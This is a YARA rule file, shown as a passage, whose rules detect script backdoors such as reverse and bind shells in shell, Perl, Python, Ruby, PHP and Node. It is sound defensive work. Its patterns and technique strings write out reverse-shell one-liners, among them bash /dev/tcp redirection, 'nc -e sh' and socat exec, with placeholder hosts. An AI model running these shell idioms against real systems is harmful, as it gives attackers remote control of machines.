/*
 * hostsweep — script backdoors beyond PHP: reverse and bind shells, IRC
 * control loops, SMTP spam loops, download-and-run, flooders, process-name
 * masquerading; in Perl, Python, shell (and the same payloads embedded in
 * PHP or cron lines).
 *
 * Written here from the techniques, not from samples. Each rule combines
 * "what it does" (a socket *and* a shell wired to it; IRC verbs *and* a
 * command dispatch that runs something; an SMTP send *inside* a loop over a
 * list; a fetch *followed by* an execution) with a language or context
 * test, so that a single word never fires. Documentation (Markdown, HTML,
 * man pages, JavaScript, plain text with no code in it) that quotes a
 * recipe is at most medium (bot_backdoor_recipe_in_doc), never critical.
 * docs/script-rules.md explains every rule and its limits.
 */

/* ---- context: language and documentation -------------------------------- */

private rule hs_shebang
{
    strings:
        $sb = /#![ \t]{0,4}\/[^\n]{0,60}\b(perl|python[0-9.]{0,5}|bash|sh|dash|zsh|ksh|ash|busybox|php[0-9.]{0,4}|ruby|lua|gawk|awk|tclsh|node)\b/
    condition:
        $sb at 0
}

private rule hs_lang_perl
{
    strings:
        $sb = /#![^\n]{0,60}perl/
        $e1 = /\bperl[0-9.]{0,6}\s{1,4}(-[wTsn]{1,3}\s{1,4})?-(e|E|M[\w:]{0,30})\s/
        $u1 = /(^|[\n;{'"])\s{0,8}use\s{1,4}(strict|warnings|Socket|IO::|POSIX|LWP|Net::|MIME::|Mail::|HTTP::|MIME::Base64)/
        $i1 = "my $" ascii
        $i2 = "$SIG{" ascii
        $i3 = /\bsub [A-Za-z_]\w{0,39}\s{0,4}\{/
        $i4 = "<STDIN>" ascii
        $i5 = "@ARGV" ascii
        $i6 = "$ARGV[" ascii
        $i7 = /\bchomp\s{0,2}\(/
        $i8 = /\$\w{1,30}\s{0,4}=~\s{0,4}(m|s|tr)?\//
    condition:
        $sb at 0 or extension == "pl" or extension == "pm" or $e1 or $u1 or 2 of ($i*)
}

private rule hs_lang_python
{
    strings:
        $sb = /#![^\n]{0,60}python/
        $c1 = /\bpython[0-9.]{0,5}\s{1,4}-c\s/
        // train6: the module anywhere in a comma list (`import random, socket, sys`)
        $m1 = /(^|[\n;])\s{0,8}import\s{1,4}([\w.]{1,30}\s{0,2},\s{0,2}){0,8}(socket|subprocess|os|pty|sys|base64|zlib|marshal|smtplib|urllib|urllib2|requests|threading|cgi|commands)\b/
        $m2 = /(^|[\n;])\s{0,8}from\s{1,4}(socket|subprocess|os|pty|smtplib|urllib|urllib2|email)[\w.]{0,20}\s{1,4}import\s/
        $m3 = /__import__\s{0,2}\(\s{0,2}['"](socket|os|subprocess|pty|base64|zlib)['"]/
        $d1 = /\n( {4}| {8}|\t{1,2})?def [A-Za-z_]\w{0,39}\s{0,2}\(/
        $d2 = /(^|\n)(import|from) [A-Za-z_][\w.]{0,39}/
    condition:
        $sb at 0 or extension == "py" or extension == "pyw" or $c1 or $m1 or $m2 or $m3 or ($d1 and $d2)
}

private rule hs_lang_shell
{
    strings:
        $sb = /#![ \t]{0,4}\/[^\n]{0,40}\b(bash|sh|dash|zsh|ksh|ash|busybox)\b/
        // literals: regexes on words like "fi" or "done" would be tried everywhere
        $i1 = "\nfi\n" ascii
        $i2 = "\tfi\n" ascii
        $i3 = "; then" ascii
        $i4 = "\ndone" ascii
        $i5 = "\tdone" ascii
        $i6 = "\nesac" ascii
        $i7 = "\texport " ascii
        $i8 = "\nexport " ascii
        $i9 = "; do\n" ascii
    condition:
        $sb at 0 or extension == "sh" or extension == "bash" or 3 of ($i*)
}

/* A crontab file (a spool file `crontab -u` installed, an /etc/cron.d
 * entry): no extension, it starts with a comment, a schedule or a variable
 * (MAILTO=, SHELL=, PATH=), and a line starts with a schedule (@reboot...,
 * or five fields with `* *` in the day/month/weekday ones, as nearly every
 * job has: literals, so the strings keep their atoms). Its `# Edit this
 * file ...` comments look like Markdown headings, but it is what cron runs.
 * A README starting with `# Title` whose crontab example is not in a code
 * fence or indented is read as a crontab too (the fence keeps a page prose). */
private rule hs_crontab_text
{
    strings:
        $at = /(^|\n)[ \t]{0,4}@(reboot|yearly|annually|monthly|weekly|daily|midnight|hourly)[ \t]{1,8}[^ \t\n#]/
        $s1 = /(^|\n)[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}\* \* [0-9a-z*\/,-]{1,12}[ \t]{1,8}[^ \t\n#]/
        $s2 = /(^|\n)[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}\* \* [ \t]{0,7}[^ \t\n#]/
        $v1 = "MAILTO=" ascii
        $v2 = "SHELL=" ascii
        $v3 = "PATH=" ascii
    condition:
        filesize < 64KB and ($at or $s1 or $s2) and (
        (extension == "" and
         (uint8(0) == 0x23 or uint8(0) == 0x40 or uint8(0) == 0x2a or
          (uint8(0) >= 0x30 and uint8(0) <= 0x39) or $v1 at 0 or $v2 at 0 or $v3 at 0)) or
        /* (train8) a crontab kept as crontab.txt (installed with `crontab
           crontab.txt`): a job or a variable on its first line, not a comment
           (a README.txt may start with one) */
        (extension == "txt" and
         (uint8(0) == 0x40 or uint8(0) == 0x2a or (uint8(0) >= 0x30 and uint8(0) <= 0x39) or
          $v1 at 0 or $v2 at 0 or $v3 at 0)))
}

/* Text meant to be read, not run: documentation formats and web assets,
 * unless the file is a script after all (a shebang or a PHP tag). A .txt
 * is documentation only when nothing in it looks like Perl or Python:
 * bots are dropped as bot.txt and started with `perl bot.txt`. */
private rule hs_doc_file
{
    strings:
        $php = "<?php" ascii
        $php2 = "<?PHP" ascii
        $f1 = "```" ascii
        $f2 = /\n\.(TH|SH|PP|IP|nf)\s/
        $f3 = ".. code-block::" ascii
        // lower case only: nocase multiplies the atoms of short strings
        $f4 = "<html" ascii
        $f6 = "<body" ascii
        $f7 = "<pre>" ascii
        $f8 = "<code>" ascii
        $f9 = "<p>" ascii
        $f10 = "<div" ascii
        $f11 = "<table" ascii
        $f12 = "<HTML" ascii
        $f5 = /\n#{1,4} [A-Z]/
    condition:
        not hs_shebang and (
            /* prose formats no web server runs as PHP: a PHP tag in them is
             * quoted (a Markdown code fence), unless the file starts with it */
            (extension matches /^(md|markdown|mkd|rst|adoc|asciidoc|pod|tex|[1-9]|man|ipynb|rtf|org)$/
             and not ($php at 0 or $php2 at 0 or $php at 3 or $php2 at 3))
            or not $php and not $php2 and (
            extension matches /^(md|markdown|mkd|rst|adoc|asciidoc|html?|xhtml|js|mjs|cjs|jsx|ts|tsx|json|css|scss|less|xml|svg|po|pot|pod|tex|[1-9]|man|ya?ml|csv|ipynb|vue|rtf|org)$/
            or any of ($f1, $f2, $f3, $f4, $f6, $f7, $f8, $f9, $f10, $f11, $f12)
            or (extension == "txt" and not hs_lang_perl and not hs_lang_python and not hs_crontab_text)
            or (extension == "" and $f5 and not hs_lang_perl and not hs_lang_python and
                not hs_crontab_text)
        ))
}

/* A script's own extension. A mass mailer carries its HTML letter (<html>,
 * <p>) in a heredoc or after __DATA__: for the spam-loop rule that is no
 * sign of documentation. (Other rules keep hs_doc_file as it is: POD with
 * HTML examples in a Perl module is documentation for them.) */
private rule hs_script_ext
{
    condition:
        extension matches /^(pl|pm|cgi|py|pyw|sh|bash)$/
}

/* ---- reverse and bind shells -------------------------------------------- */

rule bot_revshell_dev_tcp : bot
{
    meta:
        description = "Shell wired to a TCP/UDP connection through bash's /dev/tcp pseudo-device"
        severity = "critical"
        technique = "bash -i >& /dev/tcp/H/P 0>&1; exec N<>/dev/tcp/H/P with sh <&N or a read loop on N"
        seen = "pre,train9"
    strings:
        // stdin of the shell duplicated from the connection (0>&1, 0<&1)
        $a1 = /\/dev\/(tcp|udp)\/[^\/\s"'`]{1,100}\/[^\s"'`;|&<>]{1,12}\s{0,4}0\s{0,2}[<>]\s{0,2}&\s{0,2}[12]\b/
        // an interactive shell whose output goes to the connection
        $a2 = /\b(ba|z|k|da)?sh -i\s{0,4}[12]?\s{0,2}[<>]\s{0,2}&\s{0,4}\/dev\/(tcp|udp)\//
        // round 7: bash's &> (stdout and stderr) to the connection
        $a5 = /\b(ba|z|k|da)?sh -i\s{0,4}&>\s{0,2}\/dev\/(tcp|udp)\//
        // a shell reading the connection
        $a3 = /\b(ba|z|k|da)?sh (-i )?0?<\s{0,2}\/dev\/(tcp|udp)\//
        // the same with the device path kept in variables
        $a4 = /\b(ba|z|k|da)?sh -i\s{0,4}[12]?\s{0,2}>\s{0,2}&\s{0,4}\S{1,120}\s{1,4}0\s{0,2}[<>]\s{0,2}&\s{0,2}[12]\b/
        // a descriptor opened on the connection ...
        $fd = /\bexec\s{1,4}[0-9]{1,4}\s{0,2}<>\s{0,2}\/dev\/(tcp|udp)\//
        // ... and a shell or a command loop on it
        $u1 = /\b(ba|z|k|da)?sh (-i )?0?<\s{0,2}&\s{0,2}[0-9]{1,4}\b/
        $u2 = /\bread\s{1,4}(-r\s{1,4})?\w{1,20}\s{0,4}0?<\s{0,2}&\s{0,2}[0-9]{1,4}\b/
        $u3 = /\bdo\s{1,4}(eval\s{1,4})?["']?\$\{?\w{1,20}\}?["']?\s[^\n]{0,30}>\s{0,2}&\s{0,2}[0-9]{1,4}/
        $u4 = /<\s{0,2}&\s{0,2}[0-9]{1,4}\s{0,4}\|\s{0,4}while\s{1,4}read\b/
        // (train9) bash's read -u N: while read -r -u 3 c; do bash -c "$c" >&3; done
        $u5 = /\bread\s{1,4}(-[a-z]{1,3}\s{1,4}){0,3}-u\s{0,2}[0-9]{1,4}\s/
        // an audit script searching files for the idiom
        $g = /\b(grep|egrep|fgrep|rg|ack|ag)\s[^\n]{0,60}\/dev\/(tcp|udp)/
    condition:
        filesize < 2MB and not hs_doc_file and not $g and
        (any of ($a*) or ($fd and any of ($u*)))
}

rule bot_revshell_netcat_pipe : bot
{
    meta:
        description = "Shell served over netcat/telnet/openssl: nc -e /bin/sh, or a shell piped to and from the connection"
        severity = "critical"
        technique = "nc -e/-c sh; mkfifo/mknod pipe: cat F | sh -i | nc H P > F; nc H P | sh; telnet H P | sh | telnet H P2"
        seen = "pre,train9"
    strings:
        $e1 = /\b(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\s([^\n|;&]{0,80}\s)?(-e|-c|--exec|--sh-exec)\s{0,4}['"]?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
        $e2 = /\b(nc|ncat|netcat|nc\.traditional)\s([^\n|;&]{0,80}\s)?(-e|-c|--exec|--sh-exec)\s{0,4}['"]?\$\{?SHELL\b/
        $e3 = /\bbusybox\s{1,4}nc\s[^\n|;&]{0,80}-e\s/
        // the connection's data goes into a shell
        $p1 = /\b(nc|ncat|netcat|telnet)\s[^\n|;&]{1,80}\|\s{0,4}(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
        $p2 = /\bopenssl\s{1,4}s_client\s[^\n|;&]{1,120}\|\s{0,4}(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/
        // an interactive shell's output goes into the connection
        $p3 = /\b(ba|z|k|da)?sh -i\b[^\n|]{0,40}\|\s{0,4}(busybox\s{1,4})?(nc|ncat|netcat|telnet|openssl\s{1,4}s_client)\s/
        // a shell fed from a named pipe, piped into the connection
        // (train9) script(1) giving the shell a pty: cat F | script -qc /bin/bash /dev/null | nc H P > F
        $p5 = /\bscript\s{1,4}(-[a-z]{1,3}\s{1,4}){0,2}-[a-z]{0,3}c\s{1,4}['"]?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b[^\n|]{0,40}\|\s{0,4}(busybox\s{1,4})?(nc|ncat|netcat|telnet|openssl\s{1,4}s_client)\s/
        $p4 = /(\/bin\/|\bbusybox\s{1,4})(ba|z|k|da)?sh (-i )?0?<\s{0,4}[^\s|;&]{1,60}\s{0,4}(2>&1\s{0,4})?\|\s{0,4}(busybox\s{1,4})?(nc|ncat|netcat|telnet|openssl\s{1,4}s_client)\s/
    condition:
        filesize < 2MB and not hs_doc_file and any of them
}

rule bot_revshell_socat : bot
{
    meta:
        description = "socat joining a TCP/TLS connection to a shell (connect-back or bind)"
        severity = "critical"
        technique = "socat tcp:H:P exec:'bash -li',pty,stderr | socat TCP-LISTEN:P,fork EXEC:/bin/sh"
        seen = "pre"
    strings:
        $x = /\bsocat\s[^\n]{0,200}(exec|system):['"]?(\/usr)?(\/bin\/)?(ba|z|k|da)?sh\b/ nocase
        $t = /\bsocat\s[^\n]{0,300}\b(tcp|tcp4|tcp6|tcp-connect|tcp4-connect|tcp-listen|tcp4-listen|openssl|openssl-connect|openssl-listen|ssl|udp|udp-connect)[:-]/ nocase
    condition:
        filesize < 2MB and not hs_doc_file and $x and $t
}

rule bot_revshell_gawk_inet : bot
{
    meta:
        description = "gawk network coprocess that reads commands from a connection and runs them"
        severity = "high"
        technique = "awk 'BEGIN{s=\"/inet/tcp/0/H/P\"; while(...) { s |& getline c; while ((c |& getline) > 0) print |& s }}'"
        seen = "pre"
    strings:
        $i = /\/inet[46]?\/(tcp|udp)\/[0-9]{1,5}\/[^\/\s"']{1,100}\/[0-9]{1,5}/
        $co = "|&" ascii
        $gl = "getline" ascii
    condition:
        filesize < 1MB and not hs_doc_file and $i and #co >= 2 and $gl
}

rule bot_revshell_fd_handoff : bot
{
    meta:
        description = "Shell started on a socket's descriptor (sh -i <&3 >&3 2>&3) in a script that opens a socket"
        severity = "critical"
        technique = "php -r fsockopen + exec(\"/bin/sh -i <&3 >&3 2>&3\"), ruby TCPSocket + exec sprintf(\"/bin/sh -i <&%d >&%d\")"
        seen = "pre"
    strings:
        $h = /\b(ba|z|k|da)?sh (-i )?0?<\s{0,2}&\s{0,2}([0-9]{1,4}|%d|%s|\$\w{1,20}|#\{\w{1,20}\}|\{\w{0,20}\}|["']\s{0,2}[+.])[^\n]{0,40}>\s{0,2}&\s{0,2}([0-9]{1,4}|%d|%s|\$\w{1,20}|#\{\w{1,20}\}|\{\w{0,20}\}|["']\s{0,2}[+.])/
        $s1 = "fsockopen" ascii
        $s2 = "TCPSocket" ascii
        $s3 = /\bsocket\s{0,4}\(/
        $s4 = "IO::Socket" ascii
        $s5 = "stream_socket_client" ascii
        $s6 = "/dev/tcp/" ascii
        $s7 = "socket.connect" ascii
        $s8 = "net.Socket" ascii
        $s9 = "socket_create" ascii
        // round 8: zsh's TCP module (zmodload zsh/net/tcp; ztcp H P; fd=$REPLY)
        $s10 = "zsh/net/tcp" ascii
    condition:
        filesize < 2MB and not hs_doc_file and $h and any of ($s*)
}

rule bot_revshell_perl : bot
{
    meta:
        description = "Perl connect-back/bind shell: a socket attached to STDIN/STDOUT and a shell run, or commands read from the socket and their output sent back"
        severity = "critical"
        technique = "socket()/IO::Socket::INET + connect/accept + open(STDIN,\">&S\")/dup2/fdopen + exec /bin/sh; while(<$s>){print $s `$_`}"
        seen = "pre,train6"
    strings:
        $sk1 = /\bsocket\s{0,4}\(\s{0,4}(my\s{1,4})?\*?\$?\w{1,30}\s{0,4},\s{0,4}(&?PF_INET6?|&?AF_INET6?|2)\b/
        $sk2 = /IO::Socket::(INET6?|IP|SSL)\s{0,4}->\s{0,2}new\b/
        $sk3 = /\bnew\s{1,4}IO::Socket::(INET6?|IP|SSL)\b/
        $nt1 = /\bconnect\s{0,4}\(/
        $nt2 = "PeerAddr" ascii
        $nt3 = "PeerHost" ascii
        $nt4 = /\baccept\s{0,4}\(/
        $nt5 = /->\s{0,2}accept\b/
        // IO::Socket::INET->new("host:port"): the peer in the one argument
        $nt6 = /IO::Socket::(INET6?|IP|SSL)\s{0,4}->\s{0,2}new\s{0,2}\(\s{0,2}["'][^"'\s]{1,80}:[0-9]{1,5}["']/
        $nt7 = /\bnew\s{1,4}IO::Socket::(INET6?|IP|SSL)\s{0,2}\(\s{0,2}["'][^"'\s]{1,80}:[0-9]{1,5}["']/
        $nt8 = /LocalPort\s{0,4}=>|\blisten\s{0,4}\(/
        // STDIN duplicated from a handle: a daemon points STDIN at /dev/null,
        // a shell on a socket needs it to read the commands
        $w1 = /\bopen\s{0,4}\(?\s{0,4}\*?STDIN\s{0,4},\s{0,4}["']\s{0,2}[<>+]{1,3}\s{0,2}&\s{0,2}=?\s{0,2}\$?\w{1,30}/
        $w2 = /\bopen\s{0,4}\(?\s{0,4}\*?STDIN\s{0,4},\s{0,4}["'][<>+]{1,3}&=?["']\s{0,4},\s{0,4}\$?\w{1,30}/
        $w3 = /\bdup2\s{0,4}\(\s{0,4}fileno\s{0,4}\(?\s{0,4}\$?\w{1,30}\s{0,4}\)?\s{0,4},\s{0,4}0\s{0,4}\)/
        $w4 = /\bSTDIN\s{0,2}->\s{0,2}fdopen\s{0,4}\(\s{0,4}\$\w{1,30}\s{0,4},\s{0,4}['"]?r/
        // open(STDIN, "<&" . fileno($s)); the glob aliased: *STDIN = *STDOUT = $s
        $w5 = /\bopen\s{0,4}\(?\s{0,4}\*?STDIN\s{0,4},\s{0,4}["'][<>+]{1,3}&=?["']\s{0,4}\.\s{0,4}(fileno\s{0,4}\(?\s{0,4})?\$\w{1,30}/
        $w6 = /\*STDIN\s{0,4}=\s{0,4}(\*STD(OUT|ERR)\s{0,4}=\s{0,4}){0,2}\$\w{1,30}\s{0,4};/
        // dup2 of the socket's descriptor onto 0..2, in a loop too
        $w7 = /\bdup2\s{0,4}\(\s{0,4}\$\w{1,30}\s{0,2}->\s{0,2}fileno\b/
        $w8 = /\bdup2\s{0,4}\(\s{0,4}fileno\s{0,4}\(?\s{0,4}\$?\w{1,30}\s{0,4}\)?\s{0,4},\s{0,4}\$_\s{0,4}\)/
        // a shell run
        $x1 = /\b(exec|system)\s{0,4}(\(\s{0,4}\{|[({])?\s{0,4}['"]\s{0,4}(\/usr)?\/bin\/(ba|z|k|da|c|tc)?sh\b/
        $x2 = /\b(exec|system)\s{0,4}[({]?\s{0,4}['"](ba|z|k|da)?sh -i\b/
        $x3 = /\b(exec|system)\s{0,4}[({]?\s{0,4}\$\w{1,30}/
        $x4 = /\bsystem\s{0,4}\(?\s{0,4}\$_\s{0,4}\)?\s{0,4}while\b/
        $x5 = /\b(exec|system)\s{0,4}(\(\s{0,4}\{|[({])?\s{0,4}['"](ba|z|k|da)?sh( -i)?['"]/
        $shp = /\/bin\/(ba|z|k|da)?sh\b|['"](ba|z|k|da)?sh -i\b|cmd\.exe|COMSPEC/
        // command loop: read a line from a handle, run it, print the output to a handle
        $l1 = /\bwhile\s{0,4}\(\s{0,4}(defined\s{0,4}\(?\s{0,4})?(my\s{1,4})?(\$\w{1,30}\s{0,4}=\s{0,4})?(<\s{0,2}\$?\w{1,30}\s{0,2}>|\$\w{1,30}\s{0,2}->\s{0,2}getline\b|readline\s{0,2}\()|\bwhile\s{0,4}\(\s{0,4}(sysread|recv)\s{0,4}\(\s{0,4}\$?\w{1,30}\s{0,4},/
        $l2 = /\bprint\s{1,4}\{?\s{0,2}\$?\w{1,30}\s{0,2}\}?\s{1,4}(scalar\s{1,4})?(`|qx\s{0,2}[\(\{\/|!])/
        $l3 = /\b(send|syswrite)\s{0,4}\(\s{0,4}\$?\w{1,30}\s{0,4},\s{0,4}(scalar\s{1,4})?(`|qx\s{0,2}[\(\{\/|!])/
        $l4 = /->\s{0,2}(print|send|syswrite)\s{0,2}\(\s{0,2}(scalar\s{1,4})?(`|qx\s{0,2}[\(\{\/|!])/
        // or in two steps: $out = `$line`; print $sock $out;
        $l5 = /`\$\w{1,30}( 2>&1)?`/
        $l7 = /\bqx\s{0,2}[\(\{\/|!]\s{0,2}\$\w{1,30}/
        // (train6: a bareword handle too, send(S, $o, 0))
        $l6 = /\bprint\s{1,4}\{?\s{0,2}\$?\w{1,30}\s{0,2}\}?\s{1,4}\$\w{1,30}\s{0,4}[;,]|\b(syswrite|send)\s{0,4}\(\s{0,4}\$?\w{1,30}\s{0,4},\s{0,4}\$\w{1,30}/
    condition:
        filesize < 2MB and hs_lang_perl and not hs_doc_file and any of ($sk*) and any of ($nt*) and (
            (any of ($w*) and (any of ($x1, $x2, $x4, $x5) or ($x3 and $shp)))
            or ($l1 and any of ($l2, $l3, $l4))
            or for any i in (1..#l1) : ( for any j in (1..#l5) : ( @l5[j] > @l1[i] and @l5[j] < @l1[i] + 400 and
                   for any k in (1..#l6) : ( @l6[k] > @l5[j] and @l6[k] < @l5[j] + 300 ) ) )
            or for any i in (1..#l1) : ( for any j in (1..#l7) : ( @l7[j] > @l1[i] and @l7[j] < @l1[i] + 400 and
                   for any k in (1..#l6) : ( @l6[k] > @l7[j] and @l6[k] < @l7[j] + 300 ) ) )
        )
}

rule bot_revshell_python : bot
{
    meta:
        description = "Python connect-back/bind shell: socket duplicated onto stdio and a shell spawned, or commands received, run and sent back"
        severity = "critical"
        technique = "socket.socket + connect/accept + os.dup2(s.fileno(),N) + pty.spawn/subprocess sh; recv -> subprocess/os.popen -> send"
        seen = "pre"
    strings:
        $sk1 = /\bsocket\.socket\s{0,2}\(/
        $sk2 = /\bsocket\s{0,2}\(\s{0,2}(socket\.)?AF_INET6?\b/
        $sk3 = /\bcreate_connection\s{0,2}\(/
        $sk4 = /__import__\s{0,2}\(\s{0,2}['"]socket['"]\s{0,2}\)/
        $sk6 = /\bimport\s{1,4}[^\n]{0,80}\bsocket\s{1,4}as\s{1,4}[A-Za-z_]\w{0,20}/
        // round 7: from socket import socket; sk = socket()
        $sk7 = /\bfrom\s{1,4}socket\s{1,4}import\s[^\n]{0,60}\bsocket\b/
        $sk5 = /\b(socketserver|SocketServer)\.(TCPServer|ThreadingTCPServer|ForkingTCPServer|BaseRequestHandler|StreamRequestHandler)\b/
        $nt4 = /\bserve_forever\s{0,2}\(|\bdef\s{1,4}handle\s{0,2}\(\s{0,2}self/
        $as1 = /\basyncio\.(open_connection|start_server)\s{0,2}\(/
        $as2 = /\bcreate_subprocess_(shell|exec)\s{0,2}\(\s{0,2}[a-zA-Z_][\w.]{0,40}(\(\s{0,2}\))?\s{0,2}[,)]/
        $nt1 = /\.connect(_ex)?\s{0,2}\(/
        $nt2 = /\.accept\s{0,2}\(\s{0,2}\)/
        $nt3 = /\bcreate_connection\s{0,2}\(/
        // the socket's descriptor becomes the shell's stdio
        $d1 = /\bdup2\s{0,2}\(\s{0,2}[\w.\[\]()]{1,40}\.fileno\s{0,2}\(\s{0,2}\)/
        $d2 = /\bstd(in|out|err)\s{0,2}=\s{0,2}[\w.\[\]]{1,40}\.fileno\s{0,2}\(\s{0,2}\)/
        $d3 = /\bos\.dup2\s{0,2}\(\s{0,2}\w{1,30}\s{0,2},\s{0,2}[012]\s{0,2}\)/
        // round 8: fd = s.detach(); for n in range(3): os.dup2(fd, n)
        $d5 = /\bfor\s{1,4}\w{1,10}\s{1,4}in\s{1,4}(range\s{0,2}\(\s{0,2}3\s{0,2}\)|[(\[]\s{0,2}0\s{0,2},\s{0,2}1\s{0,2},\s{0,2}2\s{0,2}[)\]])\s{0,2}:\s{0,12}os\.dup2\s{0,2}\(/
        $d4 = /\bstdin\s{0,2}=\s{0,2}[a-zA-Z_]\w{0,20}\s{0,2},\s{0,2}stdout\s{0,2}=\s{0,2}[a-zA-Z_]\w{0,20}\s{0,2},\s{0,2}stderr\s{0,2}=\s{0,2}[a-zA-Z_]\w{0,20}\s{0,2}[,)]/
        $sh1 = /['"](\/usr)?\/bin\/(ba|z|k|da)?sh( -i)?['"]/
        $sh2 = /['"](ba|z|k|da)?sh['"]\s{0,2},\s{0,2}['"]-i['"]/
        $sh3 = /\bpty\.spawn\s{0,2}\(/
        $sh4 = /['"](ba|z|k|da)?sh -i['"]/
        // command loop
        $r1 = /\.recv(from|_into)?\s{0,2}\(|\bself\.rfile\b/
        // run what arrived: the command is a variable, not a literal
        // (round 7: also line.strip(), data.decode() as the argument)
        $e1 = /\bsubprocess\.(Popen|check_output|getoutput|getstatusoutput|run|call)\s{0,2}\(\s{0,2}[a-zA-Z_][\w.]{0,40}(\([^()\n]{0,20}\))?\s{0,2}[,)]/
        $e2 = /\bos\.(popen|system)\s{0,2}\(\s{0,2}[a-zA-Z_][\w.]{0,40}(\([^()\n]{0,20}\))?\s{0,2}[,)]/
        $e3 = /\bcommands\.getoutput\s{0,2}\(\s{0,2}[a-zA-Z_]/
        // from subprocess import getoutput: the bare name
        $e5 = /(^|[^.\w])(getoutput|getstatusoutput|check_output)\s{0,2}\(\s{0,2}[a-zA-Z_][\w.]{0,40}(\([^()\n]{0,20}\))?\s{0,2}[,)]/
        // the module under another name: import subprocess as P; P.check_output(d, shell=True)
        $e4 = /\.(Popen|check_output|getoutput|getstatusoutput|run|call)\s{0,2}\(\s{0,2}[a-zA-Z_][\w.]{0,40}\s{0,2},[^\n)]{0,120}\bshell\s{0,2}=\s{0,2}(True|1)\b/
        $sd = /\.send(all|to)?\s{0,2}\(|\bself\.wfile\.write\s{0,2}\(/
        // (round 7: while (data := sk.recv(1024)):)
        $wl = /\bwhile\s{1,4}(True|1)\s{0,2}:|\bwhile\s{0,2}\(?\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2}:=/
        // the socket read as a file: f = s.makefile('rw'); for line in f: f.write(run(line))
        $mk = /\.makefile\s{0,2}\(/
        // round 7: a shell started with pipes, what the socket receives written to its stdin
        $pw = /\.stdin\.write\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2}\)/
        $pp = /\bstdin\s{0,2}=\s{0,2}(subprocess\.)?PIPE\b/
    condition:
        filesize < 2MB and hs_lang_python and not hs_doc_file and ($as1 and $as2 or any of ($sk*) and any of ($nt*) and (
            (any of ($d*) and any of ($sh*))
            or (
                for any i in (1..#r1) : ( for any of ($e*) : ( $ in (@r1[i] .. @r1[i] + 600) ) )
                // (the run may be the send's argument: wfile.write(subprocess.run(line, ..)))
                and for any i in (1..#sd) : ( for any of ($e*) : ( $ in (@sd[i] - 800 .. @sd[i] + 100) ) )
            )
            // an endless loop whose body receives, runs and sends (not a socket in one
            // place, a subprocess in another and a send in a third of a big tool)
            or for any w in (1..#wl) : (
                for any i in (1..#r1) : ( @r1[i] > @wl[w] and @r1[i] < @wl[w] + 1000 ) and
                for any of ($e*) : ( $ in (@wl[w] .. @wl[w] + 1500) ) and
                for any j in (1..#sd) : ( @sd[j] > @wl[w] and @sd[j] < @wl[w] + 1500 ) )
            // or anywhere, through helpers, when a variable is handed to a shell (shell=True)
            or ($e4 and $r1 and $sd and $wl)
            or for any i in (1..#mk) : ( for any of ($e*) : ( $ in (@mk[i] .. @mk[i] + 400) ) )
            or ($pp and $pw and $r1 and any of ($sh*))
        ))
}

rule bot_revshell_interpreter_oneliner : bot
{
    meta:
        description = "Ruby/PHP/Lua one-liner that connects out and runs a shell on the connection"
        severity = "critical"
        technique = "ruby -rsocket -e 'TCPSocket...exec sh'; php -r '$s=fsockopen(...);exec(\"/bin/sh -i <&3 >&3\")'; lua -e socket + io.popen"
        seen = "pre"
    strings:
        $rb = /\bruby\s[^\n]{0,20}-rsocket\b[^\n]{0,400}\b(exec|spawn|system|popen|IO\.popen)\b/
        $php = /\bphp[0-9.]{0,4}\s{1,4}-r\s{1,4}['"][^\n]{0,200}\b(fsockopen|stream_socket_client|socket_create)\s{0,2}\([^\n]{0,300}\b(exec|shell_exec|system|passthru|popen|proc_open)\s{0,2}\(/
        $lua = /\blua[0-9.]{0,4}\s{1,4}-e\s[^\n]{0,200}socket[^\n]{0,400}\b(io\.popen|os\.execute)\s{0,2}\(/
    condition:
        filesize < 2MB and not hs_doc_file and any of them
}

rule bot_revshell_node : bot
{
    meta:
        description = "Node.js connect-back/bind shell: a net socket piped to and from a spawned shell"
        severity = "critical"
        technique = "require('net') + require('child_process').spawn('/bin/sh') + socket.pipe(sh.stdin), sh.stdout.pipe(socket)"
        seen = "bediger4000,nikicat,shipcod3,tennc"
    strings:
        $r1 = /(^|\n)[^\n`]{0,100}require\s{0,2}\(\s{0,2}['"]net['"]\s{0,2}\)/
        $r2 = /(^|\n)[^\n`]{0,100}require\s{0,2}\(\s{0,2}['"]child_process['"]\s{0,2}\)/
        $sp = /\b(spawn|exec)\s{0,2}\(\s{0,2}['"](\/usr)?(\/bin\/)?(ba|z|k|da)?sh['"]/
        $p1 = /\.pipe\s{0,2}\(\s{0,2}[\w.]{1,40}\.stdin\s{0,2}\)/
        $p2 = /\.stdout\s{0,2}\.\s{0,2}pipe\s{0,2}\(/
        // or what arrives on the socket run as a command: .on('data', d => exec(d...))
        $dt = /\.on\s{0,2}\(\s{0,2}['"]data['"]\s{0,2},/
        $ex = /\b(exec|execSync|spawn|spawnSync)\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$]{0,30}(\s{0,2}\.\s{0,2}toString\s{0,2}\(\s{0,2}\)(\s{0,2}\.\s{0,2}trim\s{0,2}\(\s{0,2}\))?)?\s{0,2}[,)]/
    condition:
        filesize < 2MB and $r1 and $r2 and (
            ($sp and ($p1 or $p2))
            or for any i in (1..#dt) : ( $ex in (@dt[i] .. @dt[i] + 300) )
        )
}

/* Ruby: a TCP socket made the shell's stdio, or a command loop over it. */
rule bot_revshell_ruby : bot
{
    meta:
        description = "Ruby connect-back/bind shell: a TCPSocket/TCPServer connection reopened as stdio for a shell, or lines read from it run and the output written back"
        severity = "critical"
        technique = "TCPSocket.new + $stdin.reopen(s) + exec sh; while c = s.gets: IO.popen(c) / `#{c}` / %x(#{c}), s.print / s.puts / s.write"
        seen = "none,train6"
    strings:
        $sk = /\bTCP(Socket|Server)\s{0,2}\.\s{0,2}(new|open)\b/
        $ro = /(\$stdin|\bSTDIN|\$stdout|\bSTDOUT)\s{0,2}\.\s{0,2}reopen\s{0,2}\(\s{0,2}[a-zA-Z_@$]/
        $sh = /\b(exec|spawn|system)\s{0,2}\(?\s{0,2}['"](\/usr)?(\/bin\/)?(ba|z|k|da)?sh['"\s]/
